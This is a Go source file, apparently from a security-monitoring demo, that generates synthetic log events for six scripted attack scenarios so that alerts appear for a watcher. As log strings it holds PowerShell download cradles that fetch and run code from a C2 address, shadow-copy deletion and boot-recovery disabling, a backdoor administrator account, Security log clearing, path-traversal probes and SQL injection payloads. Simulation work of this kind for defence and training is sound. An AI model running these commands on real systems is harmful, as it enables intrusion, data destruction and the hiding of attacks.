package demo

import (
	"fmt"
	"math/rand"
	"strings"
	"time"
)

// Names of the attack stories, as they appear in Record.Story.
const (
	StorySSHBruteForce    = "ssh-brute-force"   // external brute force of sshd, success, sudo to root
	StoryPhishing         = "phishing"          // Outlook → Word macro → encoded PowerShell → C2 beacons
	StoryRansomware       = "ransomware"        // shadow copies and recovery disabled, files encrypted
	StoryPasswordSpray    = "password-spray"    // one source, many accounts, Windows 4625
	StoryWindowsIntrusion = "windows-intrusion" // RDP brute force, admin logon, new local admin, log cleared
	StoryWebAttack        = "web-attack"        // scanner, path traversal and SQL injection on the web site
	storyFirstRunsWithin  = 60 * time.Second    // every story's first run finishes within this
	storyMinGap           = 3 * time.Minute     // a story repeats after 3 to 6 minutes
	storyMaxGap           = 6 * time.Minute
)

// Stories lists the attack stories in the order they first start.
func Stories() []string {
	var out []string
	for _, s := range defaultStories(time.Time{}) {
		out = append(out, s.name)
	}
	return out
}

// story is one attack scenario that replays with new victims and
// attackers every few minutes.
type story struct {
	name string
	next time.Time
	runs int
	play func(g *Generator, at time.Time)
}

func (s *story) period(rng *rand.Rand) time.Duration {
	return storyMinGap + time.Duration(rng.Int63n(int64(storyMaxGap-storyMinGap)))
}

// defaultStories schedules the first run of each story so that all of them
// have played out within a minute of start, staggered so that a newcomer
// watching the alert list sees them arrive one after the other.
func defaultStories(start time.Time) []*story {
	return []*story{
		{name: StorySSHBruteForce, next: start.Add(3 * time.Second), play: (*Generator).storySSHBruteForce},
		{name: StoryWebAttack, next: start.Add(5 * time.Second), play: (*Generator).storyWebAttack},
		{name: StoryPhishing, next: start.Add(8 * time.Second), play: (*Generator).storyPhishing},
		{name: StoryPasswordSpray, next: start.Add(12 * time.Second), play: (*Generator).storyPasswordSpray},
		{name: StoryWindowsIntrusion, next: start.Add(18 * time.Second), play: (*Generator).storyWindowsIntrusion},
		{name: StoryRansomware, next: start.Add(30 * time.Second), play: (*Generator).storyRansomware},
	}
}

// storySSHBruteForce: dozens of failed passwords from one external address
// against an exposed sshd, a success, then sudo to root.
func (g *Generator) storySSHBruteForce(at time.Time) {
	rng := g.rng
	target, public := g.co.Bastion, PublicSSH
	if rng.Intn(3) == 0 {
		target, public = g.co.Web, PublicWeb // a forgotten port forward
	}
	ip := attackerIP(rng)
	victim, uid := "deploy", 1002
	if rng.Intn(2) == 0 {
		a := pick(rng, g.co.admins())
		victim, uid = a.Name, g.co.linuxUID(a)
	}
	guesses := []string{"root", "root", "admin", "test", "ubuntu", "oracle", "postgres", victim, victim}
	fails := 30 + rng.Intn(31)
	step := time.Duration(int64(22*time.Second) / int64(fails))
	t := at
	var pid, port int
	for i := 0; i < fails; i++ {
		if i%3 == 0 { // sshd allows three tries per connection
			pid, port = g.pid(target), g.ephemeralPort()
			g.emitFirewall(t, flow{SrcIP: ip, SrcPort: port, DstIP: public, DstPort: 22, Proto: "tcp", Action: "allow",
				SrcZone: "wan", DstZone: "dmz", Rule: 20, Sent: 3000, Rcvd: 3600})
		}
		name := pick(rng, guesses)
		valid := name == "root" || name == victim
		if valid {
			g.emitSyslog(t, facAuthpriv, sevNotice, target.Name, "sshd", pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s", ip, name))
			g.emitSyslog(t.Add(2*time.Second/10), facAuth, sevInfo, target.Name, "sshd", pid, fmt.Sprintf("Failed password for %s from %s port %d ssh2", name, ip, port))
		} else {
			g.emitSyslog(t, facAuth, sevInfo, target.Name, "sshd", pid, fmt.Sprintf("Invalid user %s from %s port %d", name, ip, port))
			g.emitSyslog(t.Add(2*time.Second/10), facAuth, sevInfo, target.Name, "sshd", pid, fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", name, ip, port))
		}
		t = t.Add(jitter(rng, step, 0.4))
	}
	pid, port = g.pid(target), g.ephemeralPort()
	g.emitSyslog(t, facAuth, sevInfo, target.Name, "sshd", pid, fmt.Sprintf("Accepted password for %s from %s port %d ssh2", victim, ip, port))
	g.emitSyslog(t.Add(30*time.Millisecond), facAuthpriv, sevInfo, target.Name, "sshd", pid, fmt.Sprintf("pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)", victim, uid))
	session := 100 + rng.Intn(900)
	shell := g.pid(target)

	// A look around first, as people do.
	t = t.Add(jitter(rng, 3*time.Second, 0.3))
	for _, argv := range [][]string{{"id"}, {"uname", "-a"}, {"cat", "/etc/passwd"}} {
		g.emitAudit(t, auditExec{Host: target, PID: g.pid(target), PPID: shell, AUID: uid, UID: uid, Exe: "/usr/bin/" + argv[0],
			Argv: argv, Cwd: "/home/" + victim, TTY: "pts1", Session: session})
		t = t.Add(jitter(rng, 1500*time.Millisecond, 0.5))
	}

	esc := pick(rng, [][]string{{"/usr/bin/su", "-"}, {"/usr/bin/cat", "/etc/shadow"}, {"/bin/bash"}})
	sudoPID := g.pid(target)
	g.emitSyslog(t, facAuthpriv, sevNotice, target.Name, "sudo", 0, fmt.Sprintf("%8s : TTY=pts/1 ; PWD=/home/%s ; USER=root ; COMMAND=%s", victim, victim, strings.Join(esc, " ")))
	g.emitSyslog(t.Add(2*time.Millisecond), facAuthpriv, sevInfo, target.Name, "sudo", sudoPID, fmt.Sprintf("pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)", victim, uid))
	g.emitAudit(t.Add(4*time.Millisecond), auditExec{Host: target, PID: g.pid(target), PPID: sudoPID, AUID: uid, UID: 0, Exe: esc[0],
		Argv: esc, Cwd: "/home/" + victim, TTY: "pts1", Session: session})
	if esc[0] == "/usr/bin/su" {
		g.emitSyslog(t.Add(10*time.Millisecond), facAuthpriv, sevInfo, target.Name, "su", g.pid(target), "pam_unix(su-l:session): session opened for user root(uid=0) by "+victim+"(uid=0)")
	}
}

// phishingScripts are first-stage PowerShell download cradles of the kind
// macro droppers run, pointing at the story's C2 address.
var phishingScripts = []string{
	"$c=New-Object Net.WebClient;$c.Proxy=[Net.WebRequest]::GetSystemWebProxy();$c.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;IEX $c.DownloadString('https://%s/api/v2/update')",
	"IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')",
	"$r=Invoke-WebRequest -UseBasicParsing -Uri 'https://%s/cdn/jquery-3.3.1.min.js' -UserAgent 'Mozilla/5.0';IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.Content)))",
}

// storyPhishing: a user opens a macro document from Outlook; Word starts
// cmd, cmd starts hidden encoded PowerShell, and the host then beacons to
// the C2 address every fifteen seconds or so for ten minutes.
func (g *Generator) storyPhishing(at time.Time) {
	rng := g.rng
	u := g.co.Users[3+rng.Intn(len(g.co.Users)-3)] // not IT: they know better, mostly
	ws := u.WS
	c2 := pick(rng, g.c2)
	doc := fmt.Sprintf("%s_%d.docm", pick(rng, []string{"Invoice", "Remittance_Advice", "PO", "Shipping_Notice", "Salary_Review"}), 1000+rng.Intn(9000))
	cache := fmt.Sprintf(`C:\Users\%s\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\%08X\%s`, u.Name, rng.Uint32(), doc)

	outlook := g.userProc(u, ws, at.Add(-2*time.Hour), imgOutlook, `"`+imgOutlook+`" `)
	outlook.PID = 5000 + ws.pidBase%1000*2
	g.emitFileCreate(at, outlook, cache)

	t := at.Add(jitter(rng, 3*time.Second, 0.3))
	word := g.userProc(u, ws, t, imgWord, `"`+imgWord+`" /n "`+cache+`" /o ""`)
	g.emitProcess(t, word, outlook)

	script := fmt.Sprintf(pick(rng, phishingScripts), c2)
	enc := encodePowerShell(script)
	flags := pick(rng, []string{"-nop -w hidden -enc", "-NoP -NonI -W Hidden -Exec Bypass -enc", "-nop -w hidden -encodedcommand"})
	t = t.Add(jitter(rng, 5*time.Second, 0.3))
	cmd := g.userProc(u, ws, t, imgCmd, `cmd.exe /c powershell.exe `+flags+` `+enc)
	g.emitProcess(t, cmd, word)
	t = t.Add(300 * time.Millisecond)
	ps := g.userProc(u, ws, t, imgPowerShell, `powershell.exe  `+flags+` `+enc)
	g.emitProcess(t, ps, cmd)
	g.emitFileCreate(t.Add(2*time.Second), ps, fmt.Sprintf(`C:\Users\%s\AppData\Local\Temp\__PSScriptPolicyTest_%s.ps1`, u.Name, randomName(rng, 8)))

	// Beacons: Sysmon sees powershell connect out, the firewall lets it.
	t = t.Add(jitter(rng, 2*time.Second, 0.5))
	for i := 0; i < 40; i++ {
		sport := g.ephemeralPort()
		g.emitNetwork(t, ps, sport, c2, "", 443)
		g.emitFirewall(t.Add(20*time.Millisecond), flow{SrcIP: ws.IP, SrcPort: sport, DstIP: c2, DstPort: 443, Proto: "tcp",
			Action: "allow", SrcZone: "lan", DstZone: "wan", Rule: 10, Sent: 400 + rng.Intn(300), Rcvd: 200 + rng.Intn(2000)})
		t = t.Add(jitter(rng, 15*time.Second, 0.2))
	}
}

// ransomExtensions are extensions real families append to encrypted files.
var ransomExtensions = []string{".lockbit", ".akira", ".8base", ".crypted", ".locked"}

// storyRansomware: a payload deletes shadow copies, disables recovery,
// then writes encrypted copies of the user's files with a new extension.
func (g *Generator) storyRansomware(at time.Time) {
	rng := g.rng
	u := g.randomUser()
	ws := u.WS
	payload := pick(rng, []string{`C:\Users\Public\Libraries\svcupd.exe`, `C:\ProgramData\msupdate64.exe`, `C:\Users\` + u.Name + `\AppData\Local\Temp\winlogsvc.exe`})
	parent := g.explorer(u)
	t := at
	mal := g.userProc(u, ws, t, payload, `"`+payload+`" -path C:\Users -enc`)
	mal.Level = "High"
	g.emitProcess(t, mal, parent)

	commands := []struct{ image, cmd string }{
		{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`},
		{`C:\Windows\System32\wbem\WMIC.exe`, `wmic.exe shadowcopy delete /nointeractive`},
		{`C:\Windows\System32\bcdedit.exe`, `bcdedit.exe /set {default} recoveryenabled no`},
		{`C:\Windows\System32\bcdedit.exe`, `bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures`},
	}
	if rng.Intn(2) == 0 {
		commands = append(commands, struct{ image, cmd string }{`C:\Windows\System32\wbadmin.exe`, `wbadmin.exe delete catalog -quiet`})
	}
	for _, c := range commands {
		t = t.Add(jitter(rng, 1500*time.Millisecond, 0.4))
		sh := g.userProc(u, ws, t, imgCmd, `C:\Windows\system32\cmd.exe /c `+c.cmd)
		sh.Level = "High"
		g.emitProcess(t, sh, mal)
		tool := g.userProc(u, ws, t.Add(40*time.Millisecond), c.image, c.cmd)
		tool.Level = "High"
		g.emitProcess(t.Add(40*time.Millisecond), tool, sh)
	}

	ext := pick(rng, ransomExtensions)
	note := pick(rng, []string{"README_TO_DECRYPT.txt", "Restore-My-Files.txt", "HOW_TO_RECOVER.txt"})
	folders := []string{`Documents`, `Desktop`, `Pictures`, `Documents\Projects`, `Downloads`}
	files := 80 + rng.Intn(70)
	t = t.Add(2 * time.Second)
	step := time.Duration(int64(12*time.Second) / int64(files))
	for i := 0; i < files; i++ {
		dir := `C:\Users\` + u.Name + `\` + folders[i%len(folders)]
		if i < len(folders) {
			g.emitFileCreate(t, mal, dir+`\`+note)
		}
		name := pick(rng, documents) // the original extension stays, as ransomware does
		if rng.Intn(2) == 0 {
			name = fmt.Sprintf("IMG_%04d.jpg", 1000+rng.Intn(9000))
		}
		g.emitFileCreate(t, mal, fmt.Sprintf(`%s\%s%s`, dir, name, ext))
		t = t.Add(jitter(rng, step, 0.5))
	}
}

// storyPasswordSpray: one external address tries one password against
// many accounts at the domain controller; sometimes one works.
func (g *Generator) storyPasswordSpray(at time.Time) {
	rng := g.rng
	ip := attackerIP(rng)
	wsName := "WIN-" + strings.ToUpper(randomName(rng, 11))
	perm := rng.Perm(len(g.co.Users))
	n := 20 + rng.Intn(14)
	t := at
	for i := 0; i < n; i++ {
		l := logon{Host: g.co.DC, UserDomain: Domain, Type: 3, SrcIP: ip, SrcPort: g.ephemeralPort(), Workstation: wsName}
		status := statusBadPassword
		if i%9 == 4 { // the usual guesses that do not exist here
			l.User, status = pick(rng, []string{"administrator", "guest", "test", "scanner", "helpdesk"}), statusNoSuchUser
		} else {
			l.User = g.co.Users[perm[i%len(perm)]].Name
		}
		g.emitLogonFailure(t, l, status)
		t = t.Add(jitter(rng, 900*time.Millisecond, 0.4))
	}
	if rng.Intn(5) < 2 {
		u := g.co.Users[perm[n%len(perm)]]
		g.emitLogon(t, logon{Host: g.co.DC, User: u.Name, UserDomain: Domain, UserSID: u.SID(), Type: 3, SrcIP: ip,
			SrcPort: g.ephemeralPort(), Workstation: wsName, LogonID: fmt.Sprintf("0x%x", 0x4000000+rng.Intn(0xffffff))})
	}
}

// storyWindowsIntrusion: RDP brute force of one account on a server, a
// successful privileged logon, a new local administrator, and the security
// log cleared to cover the tracks.
func (g *Generator) storyWindowsIntrusion(at time.Time) {
	rng := g.rng
	h := pick(rng, []*host{g.co.FS, g.co.App})
	ip := attackerIP(rng)
	account, dom, sid := "Administrator", h.Name, fmt.Sprintf("S-1-5-21-%d-%d-%d-500", 3000000000+h.pidBase, 1000000+h.pidBase*3, 2000000+h.pidBase*7)
	if rng.Intn(2) == 0 {
		account, dom, sid = "svc_backup", Domain, domainSID+"-1603"
	}
	wsName := "DESKTOP-" + strings.ToUpper(randomName(rng, 7))
	fails := 12 + rng.Intn(9)
	t := at
	for i := 0; i < fails; i++ {
		g.emitLogonFailure(t, logon{Host: h, User: account, UserDomain: dom, Type: 3, SrcIP: ip, SrcPort: g.ephemeralPort(), Workstation: wsName}, statusBadPassword)
		t = t.Add(jitter(rng, 800*time.Millisecond, 0.4))
	}
	l := logon{Host: h, User: account, UserDomain: dom, UserSID: sid, Type: 10, SrcIP: ip, SrcPort: g.ephemeralPort(),
		Workstation: wsName, LogonID: fmt.Sprintf("0x%x", 0x5000000+rng.Intn(0xffffff))}
	g.emitLogon(t, l)
	g.emitSpecialLogon(t.Add(time.Millisecond), l)

	attacker := proc{Host: h, User: dom + `\` + account, SID: sid, LogonID: l.LogonID, Level: "High"}
	shell := attacker
	shell.PID, shell.Image, shell.Cmd = g.pid(h), imgCmd, `"C:\Windows\system32\cmd.exe" `
	shell.GUID = processGUID(h, t, shell.PID)
	run := func(t time.Time, image, cmd string) {
		p := attacker
		p.PID, p.Image, p.Cmd = g.pid(h), image, cmd
		p.GUID = processGUID(h, t, p.PID)
		g.emitProcess(t, p, shell)
	}

	newUser := pick(rng, []string{"support_tmp", "helpdesk2", "backup_adm", "sqlsvc$"})
	newSID := fmt.Sprintf("%s-%d", sid[:strings.LastIndexByte(sid, '-')], 1010+rng.Intn(80))
	t = t.Add(jitter(rng, 7*time.Second, 0.3))
	run(t, `C:\Windows\System32\net.exe`, `net  user `+newUser+` P@ssw0rd2026! /add`)
	g.emitWin(t.Add(50*time.Millisecond), securityEvent(h, 4720, 13824, kwSuccess, obj{
		{"TargetUserName", newUser}, {"TargetDomainName", h.Name}, {"TargetSid", newSID},
		{"SubjectUserSid", sid}, {"SubjectUserName", account}, {"SubjectDomainName", dom}, {"SubjectLogonId", l.LogonID},
		{"PrivilegeList", "-"}, {"SamAccountName", newUser}, {"DisplayName", "%%1793"}, {"UserPrincipalName", "-"},
		{"HomeDirectory", "%%1793"}, {"HomePath", "%%1793"}, {"ScriptPath", "%%1793"}, {"ProfilePath", "%%1793"},
		{"UserWorkstations", "%%1793"}, {"PasswordLastSet", "%%1794"}, {"AccountExpires", "%%1794"},
		{"PrimaryGroupId", "513"}, {"AllowedToDelegateTo", "-"}, {"OldUacValue", "0x0"}, {"NewUacValue", "0x15"},
		{"UserAccountControl", "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084"}, {"UserParameters", "%%1793"},
		{"SidHistory", "-"}, {"LogonHours", "%%1797"},
	}))
	t = t.Add(jitter(rng, 2*time.Second, 0.3))
	run(t, `C:\Windows\System32\net.exe`, `net  localgroup administrators `+newUser+` /add`)
	g.emitWin(t.Add(50*time.Millisecond), securityEvent(h, 4732, 13826, kwSuccess, obj{
		{"MemberName", "-"}, {"MemberSid", newSID}, {"TargetUserName", "Administrators"}, {"TargetDomainName", "Builtin"},
		{"TargetSid", "S-1-5-32-544"}, {"SubjectUserSid", sid}, {"SubjectUserName", account}, {"SubjectDomainName", dom},
		{"SubjectLogonId", l.LogonID}, {"PrivilegeList", "-"},
	}))

	t = t.Add(jitter(rng, 8*time.Second, 0.3))
	run(t, `C:\Windows\System32\wevtutil.exe`, `wevtutil.exe  cl Security`)
	g.emitWin(t.Add(80*time.Millisecond), winEvent{Prov: provEventlog, ID: 1102, Level: 4, Task: 104, Keywords: "0x4020000000000000", Host: h,
		UserData: obj{{"LogFileCleared", obj{
			{"#attributes", obj{{"xmlns", "http://manifests.microsoft.com/win/2004/08/windows/eventlog"}}},
			{"SubjectUserSid", sid}, {"SubjectUserName", account}, {"SubjectDomainName", dom}, {"SubjectLogonId", l.LogonID},
		}}}})
}

// storyWebAttack: a scanner sweeps the public web site, then probes for
// path traversal and runs sqlmap against a parameter.
func (g *Generator) storyWebAttack(at time.Time) {
	rng := g.rng
	ip := attackerIP(rng)
	t := at
	g.emitFirewall(t, flow{SrcIP: ip, SrcPort: g.ephemeralPort(), DstIP: PublicWeb, DstPort: 443, Proto: "tcp", Action: "allow",
		SrcZone: "wan", DstZone: "dmz", Rule: 30, Sent: 90000, Rcvd: 400000})

	nikto := fmt.Sprintf("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)", rng.Intn(9000))
	probes := []string{"/admin/", "/phpmyadmin/", "/.git/config", "/.env", "/server-status", "/backup.zip",
		"/cgi-bin/test-cgi", "/wp-admin/", "/config.php.bak", "/.DS_Store", "/web.config", "/admin/login.php"}
	scan := 12 + rng.Intn(12)
	for i := 0; i < scan; i++ {
		status := 404
		if i%5 == 3 {
			status = 403
		}
		g.emitWeb(t, ip, "GET", probes[i%len(probes)]+nikto404Suffix(i, len(probes)), status, 196+rng.Intn(100), "", nikto)
		t = t.Add(jitter(rng, 250*time.Millisecond, 0.5))
	}

	ua := "curl/8.5.0"
	for _, target := range pickN(rng, []string{
		"/index.php?page=../../../../etc/passwd",
		"/index.php?page=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
		"/download?file=....//....//....//etc/shadow",
		"/static/..%2f..%2f..%2f..%2fwindows/win.ini",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
	}, 3) {
		t = t.Add(jitter(rng, 2*time.Second, 0.5))
		g.emitWeb(t, ip, "GET", target, pick(rng, []int{400, 404, 200}), 300+rng.Intn(2000), "", ua)
	}

	sqlmap := fmt.Sprintf("sqlmap/1.8.%d#stable (https://sqlmap.org)", 2+rng.Intn(9))
	if rng.Intn(4) == 0 {
		sqlmap = pick(rng, browserAgents) // --random-agent: only the payloads give it away
	}
	payloads := []string{
		"42%27",
		"42%20AND%201%3D1",
		"42%27%20AND%20%27a%27%3D%27a",
		"42%20AND%20SLEEP%285%29",
		"42%27%20OR%20%271%27%3D%271",
		"42%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
		"42%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7178706a71%2Cuser%28%29%2C0x716b767071%29%2CNULL--%20-",
		"-5937%20OR%205936%3D5936--%20LlNe",
		"42%3BSELECT%20pg_sleep%285%29--",
	}
	n := 10 + rng.Intn(10)
	for i := 0; i < n; i++ {
		t = t.Add(jitter(rng, 400*time.Millisecond, 0.5))
		status := 200
		if i%4 == 0 {
			status = 500
		}
		g.emitWeb(t, ip, "GET", "/index.php?page=news&id="+payloads[i%len(payloads)], status, 4000+rng.Intn(3000), "", sqlmap)
	}
}

// nikto404Suffix varies the probe paths after the first round through them.
func nikto404Suffix(i, n int) string {
	if i < n {
		return ""
	}
	return fmt.Sprintf("?%d", i)
}

// pickN returns n distinct elements of xs in random order.
func pickN[T any](rng *rand.Rand, xs []T, n int) []T {
	out := make([]T, 0, n)
	for _, i := range rng.Perm(len(xs))[:n] {
		out = append(out, xs[i])
	}
	return out
}

// randomName returns n random lowercase letters and digits.
func randomName(rng *rand.Rand, n int) string {
	const chars = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = chars[rng.Intn(len(chars))]
	}
	return string(b)
}
